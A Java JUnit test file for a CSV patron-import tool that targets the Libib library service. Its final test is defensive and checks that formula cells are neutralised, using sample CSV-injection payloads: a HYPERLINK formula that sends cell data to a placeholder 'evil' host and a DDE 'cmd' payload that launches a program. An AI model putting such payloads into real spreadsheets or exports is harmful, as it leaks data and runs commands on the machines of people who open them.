package dev.apiclients.examples;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.apiclients.libib.ImportReport;
import dev.apiclients.libib.ImportedRow.Outcome;
import dev.apiclients.libib.Patron;
import dev.apiclients.libib.PatronFields;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The roster reader and the PatronImport program, on a fresh sandbox. */
class PatronImportExampleTest {

  private final ByteArrayOutputStream outBytes = new ByteArrayOutputStream();
  private final ByteArrayOutputStream errBytes = new ByteArrayOutputStream();
  private final PrintStream out = new PrintStream(outBytes, true, StandardCharsets.UTF_8);
  private final PrintStream err = new PrintStream(errBytes, true, StandardCharsets.UTF_8);

  @Test
  void theSampleRosterReadsWithItsBomQuotedCommasAndAccents() throws Exception {
    assertThat(Files.readAllBytes(Path.of("src/main/resources", RosterCsv.SAMPLE))).startsWith(0xEF, 0xBB, 0xBF);
    List<PatronFields> rows = RosterCsv.readSample();

    assertThat(rows).hasSize(11);
    assertThat(rows.get(0).asMap()).containsEntry("first_name", "Mary").containsEntry("patron_id", "mshelley")
        .doesNotContainKey("address1");
    assertThat(rows.get(2).asMap()).containsEntry("first_name", "Zoë").containsEntry("last_name", "Ångström")
        .containsEntry("address1", "12 Rue de l'Église, Apt 3").containsEntry("tags", "student,book club");
    assertThat(rows.get(4).asMap()).containsEntry("last_name", "O'Brien, Jr.");
    assertThat(rows.get(8).asMap()).containsEntry("first_name", "Renée \"Nené\"").containsEntry("zip", "G1R 4P5");
  }

  @Test
  void aRosterReadsHeadersInAnyOrderAndCaseAndRefusesUnknownColumns() throws Exception {
    List<PatronFields> rows = RosterCsv.read(new StringReader(
        "\uFEFFEmail,First Name,LAST_NAME,freeze\r\n\"a,b@example.org\",Ana,\"Núñez, Sr.\",yes\r\n\r\n"));

    assertThat(rows).containsExactly(PatronFields.builder().email("a,b@example.org").firstName("Ana")
        .lastName("Núñez, Sr.").freeze(true).build());
    assertThatThrownBy(() -> RosterCsv.read(new StringReader("first_name,nickname\nAna,Nan\n")))
        .hasMessageContaining("unknown column \"nickname\"");
    assertThatThrownBy(() -> RosterCsv.read(new StringReader("first_name,freeze\nAna,maybe\n")))
        .hasMessageContaining("row 1: freeze must be 1 or 0");
  }

  @Test
  void aDryRunPrintsThePlanWritesItAndSendsNoWrite(@TempDir Path dir) throws Exception {
    Path report = dir.resolve("plan.csv");
    try (Target target = Target.forSandbox()) {
      assertThat(PatronImport.run(target, true, null, report, out, err, false)).isNull();
      assertThat(target.sandbox().libib().writes()).isEmpty();
    }

    assertThat(outBytes.toString(StandardCharsets.UTF_8))
        .contains("Plan for 11 rows: 6 to create, 1 to update, 1 unchanged, 3 rejected (7 writes")
        .contains("Dry run: nothing was sent");
    List<String> lines = Files.readAllLines(report);
    assertThat(lines).hasSize(12);
    assertThat(lines.get(0)).isEqualTo(String.join(",", PatronImport.REPORT_HEADER));
    assertThat(lines.get(2)).isEqualTo("2,UPDATE,2020000000037,MEDITATIONS@example.com,Marcus,Aurelius,phone address1,");
    assertThat(lines.get(7)).startsWith("7,REJECTED,,Zoe.Angstrom@example.org,Mei,Chen,,same email as row 3");
  }

  @Test
  void applyingImportsTheRosterWithProgressAndWritesTheReport(@TempDir Path dir) throws Exception {
    Path report = dir.resolve("report.csv");
    ImportReport done;
    List<Patron> library;
    try (Target target = Target.forSandbox()) {
      done = PatronImport.run(target, false, null, report, out, err, false);
      library = target.sandbox().libib().patrons();
    }

    assertThat(done.counts()).containsAllEntriesOf(Map.of(Outcome.CREATED, 6, Outcome.UPDATED, 1,
        Outcome.UNCHANGED, 1, Outcome.REJECTED, 3));
    assertThat(library).hasSize(137 + 6).anySatisfy(p -> {
      assertThat(p.lastName()).isEqualTo("Ångström");
      assertThat(p.address1()).isEqualTo("12 Rue de l'Église, Apt 3");
    });
    assertThat(errBytes.toString(StandardCharsets.UTF_8)).contains("10/11 rows").contains("11/11 rows, 0 writes left");
    List<String> lines = Files.readAllLines(report);
    assertThat(lines).hasSize(12);
    assertThat(lines.get(3)).matches("3,CREATED,\\d{13},zoe.angstrom@example.org,Zoë,Ångström,first_name .*,");
    assertThat(outBytes.toString(StandardCharsets.UTF_8)).contains("Done: 6 created, 1 updated, 1 unchanged, 3 rejected");
  }

  /** A row the re-run cannot find by a key is listed apart, never promised away. */
  @Test
  void anUnknownRowWithoutKeysIsListedApartAndNoRerunIsPromised(@TempDir Path dir) throws Exception {
    Path roster = dir.resolve("roster.csv");
    Files.writeString(roster, "first_name,last_name,email\r\nNo,Key,\r\nAda,Byron,ada@example.org\r\n");
    ImportReport done;
    try (Target target = Target.forSandbox()) {
      target.sandbox().libib().resetNthRequest(4);     // 3 pages are read, then the first create is cut off
      done = PatronImport.run(target, false, roster, dir.resolve("report.csv"), out, err, false);
    }

    assertThat(done.rows()).extracting(r -> r.outcome()).containsExactly(Outcome.OUTCOME_UNKNOWN, Outcome.CREATED);
    assertThat(outBytes.toString(StandardCharsets.UTF_8))
        .contains("Check Libib for these rows before running the import again").contains("No").contains("Key")
        .doesNotContain("nothing is created twice");
  }

  /** The report neutralises cells a spreadsheet would run as formulas (CSV injection, OWASP's way). */
  @Test
  void theReportNeutralisesFormulaCells(@TempDir Path dir) throws Exception {
    Path roster = dir.resolve("roster.csv");
    Path report = dir.resolve("report.csv");
    Files.writeString(roster, "first_name,last_name,email\r\n"
        + "\"=HYPERLINK(\"\"http://evil/?\"\"&B2)\",\"+cmd|' /C calc'!A0\",eve@example.org\r\n"
        + "-1+1,@SUM(1+1),mal@example.org\r\n");
    try (Target target = Target.forSandbox()) {
      PatronImport.run(target, true, roster, report, out, err, false);
    }

    List<String> lines = Files.readAllLines(report);
    assertThat(lines.get(1)).contains(",\"'=HYPERLINK(\"\"http://evil/?\"\"&B2)\",'+cmd|' /C calc'!A0,");
    assertThat(lines.get(2)).contains(",'-1+1,'@SUM(1+1),");
  }
}
